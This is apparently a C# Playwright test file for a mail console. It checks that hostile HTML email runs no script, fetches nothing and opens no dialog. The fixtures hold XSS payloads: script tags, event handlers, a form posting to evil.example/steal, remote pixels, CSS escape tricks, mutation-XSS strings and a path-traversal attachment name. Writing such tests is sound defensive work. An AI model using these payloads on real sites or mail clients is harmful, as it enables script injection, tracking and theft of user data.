using System.Text;
using Microsoft.Playwright;
using Signet.Web.Tests.Browser;
using static Microsoft.Playwright.Assertions;

namespace Signet.Web.Tests.Messages;

/// <summary>
/// Mail that means harm, looked at in a real browser: nothing runs, nothing is asked of another host (<see cref="ConsolePage"/> fails
/// otherwise), no dialog opens, the frame goes nowhere, and the page around it goes on working.
/// </summary>
public sealed class HostileMailTests(Chromium chromium)
{
    private const string Evil = "http://evil.example";

    public static TheoryData<string, string> Mails { get; } = new()
    {
        { "a script", "<p>seen</p><script>alert(1);parent.postMessage('x','*');document.title='hacked'</script>" },
        { "a script of another host", $"<p>seen</p><script src=\"{Evil}/x.js\"></script><link rel=\"modulepreload\" href=\"{Evil}/m.js\">" },
        { "event handlers", "<p>seen</p><img src=x onerror=alert(1)><body onload=alert(2)><svg onload=alert(3)><details open ontoggle=alert(4)>" },
        { "a form", $"<p>seen</p><form action=\"{Evil}/steal\" id=f><input name=p autofocus onfocus=alert(1)><button>Go</button></form><script>f.submit()</script>" },
        { "remote images", $"<p>seen</p><img src=\"{Evil}/pixel.gif\"><img srcset=\"{Evil}/a.png 2x\"><table background=\"{Evil}/b.png\"><tr><td>x</table><video poster={Evil}/p autoplay src={Evil}/v></video>" },
        { "a refresh", $"<meta http-equiv=refresh content=\"0;url={Evil}/\"><p>seen</p><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">" },
        { "a base and links that fetch", $"<base href=\"{Evil}/\"><p>seen</p><link rel=stylesheet href=x.css><link rel=preconnect href=\"{Evil}\"><link rel=dns-prefetch href=\"//evil.example\"><link rel=prefetch href=y>" },
        { "svg", $"<p>seen</p><svg><script>alert(1)</script><image href=\"{Evil}/i.png\"/><use href=\"{Evil}/u.svg#a\"/><foreignObject><iframe src=\"{Evil}\"></iframe></foreignObject><animate onbegin=alert(1) attributeName=x></svg>" },
        { "css that fetches", $"<style>@import url({Evil}/i.css); p {{ background: url('{Evil}/b.png') }} @font-face {{ font-family: x; src: url({Evil}/f.woff) }}</style><p style=\"font-family:x; background-image: \\75\\72\\6c('{Evil}/c.png')\">seen</p>" },
        { "css escapes", $"<p style=\"background:u\\rl({Evil}/a)\">seen</p><style>p{{ b\\61 ckground: \\000075rl({Evil}/q) }} *{{ width: expression(alert(1)) }}</style>" },
        { "frames", $"<p>seen</p><iframe src=\"{Evil}\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"{Evil}\"></object><embed src=\"{Evil}\"><frameset><frame src=\"{Evil}\"></frameset>" },
        { "mutation", "<p>seen</p><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">" },
        { "what is not closed", $"<p>seen</p><img src='{Evil}/\n<a href=\"javascript:alert(1)\">x</a><textarea><title><style><xmp>" },
    };

    [Theory]
    [MemberData(nameof(Mails))]
    public async Task Nothing_runs_and_nothing_is_fetched(string name, string html)
    {
        await using var system = await ConsoleSystem.DevAsync();
        var id = await system.SendRawAsync(SampleMail.OfHtml(html, name));
        await using var console = await ConsolePage.OpenAsync(chromium, system, "messages");
        var opened = new List<string>();
        console.Page.Dialog += async (_, dialog) =>
        {
            opened.Add(dialog.Message);
            await dialog.DismissAsync();
        };
        console.Page.Popup += (_, popup) => opened.Add(popup.Url);

        await console.Page.GetByRole(AriaRole.Link, new() { Name = name, Exact = true }).ClickAsync();

        await Expect(console.Page.FrameLocator("iframe").GetByText("seen")).ToBeVisibleAsync();
        await console.Page.GetByRole(AriaRole.Link, new() { Name = "Source", Exact = true }).ClickAsync();
        await Expect(console.Page.GetByText("Content-Transfer-Encoding: base64")).ToBeVisibleAsync();
        Assert.Empty(opened);
        Assert.Equal($"{name} – Signet", await console.Page.TitleAsync());
        Assert.EndsWith($"messages/{id}?view=source", console.Page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Markup_in_every_header_is_shown_as_text()
    {
        const string markup = "<img src=x onerror=alert(1)><b>bold</b>";
        await using var system = await ConsoleSystem.DevAsync();
        var encoded = $"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes(markup))}?=";
        var id = await system.SendRawAsync(SampleMail.Bytes(
            $"""
            From: {encoded} <app@example.com>
            To: {encoded} <you@example.net>
            Cc: "<script>alert(2)</script>" <cc@example.net>
            Reply-To: {encoded} <r@example.net>
            Subject: {encoded}
            X-Strange: <svg onload=alert(3)>
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/plain

            {markup}
            --b
            Content-Type: application/octet-stream; name="{encoded}"
            Content-ID: <<i>x</i>>
            Content-Disposition: attachment; filename="../../<script>alert(4)</script>.html"

            x
            --b--
            """));
        await using var console = await ConsolePage.OpenAsync(chromium, system, "messages");

        await Expect(console.Page.GetByRole(AriaRole.Link, new() { Name = markup })).ToBeVisibleAsync();
        foreach (var view in (string[])["text", "timeline", "headers", "parts", "source"])
        {
            await console.GoAsync($"messages/{id}?view={view}");
            await Expect(console.Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync(markup);
            await Expect(console.Page.Locator("main b, main i, main svg[onload], main script, main img[onerror]")).ToHaveCountAsync(0);
        }
    }

    [Fact]
    public async Task Ten_megabytes_of_nested_tables_leave_the_page_alive()
    {
        await using var system = await ConsoleSystem.DevAsync(("max-message-size", "20000000"));
        var html = "<p>seen</p>" + string.Concat(Enumerable.Repeat("<table><tr><td>", 10_000_000 / 15));
        var id = await system.SendRawAsync(SampleMail.OfHtml(html, "Deep"));
        await using var console = await ConsolePage.OpenAsync(chromium, system, $"messages/{id}");

        await Expect(console.Page.FrameLocator("iframe").GetByText("seen")).ToBeVisibleAsync();
        await Expect(console.Page.GetByText("Only the beginning is shown.")).ToBeVisibleAsync();
        await console.Page.GetByRole(AriaRole.Link, new() { Name = "Timeline", Exact = true }).ClickAsync();
        await Expect(console.Page.GetByText("Accepted by SendRawEmail")).ToBeVisibleAsync();
    }
}
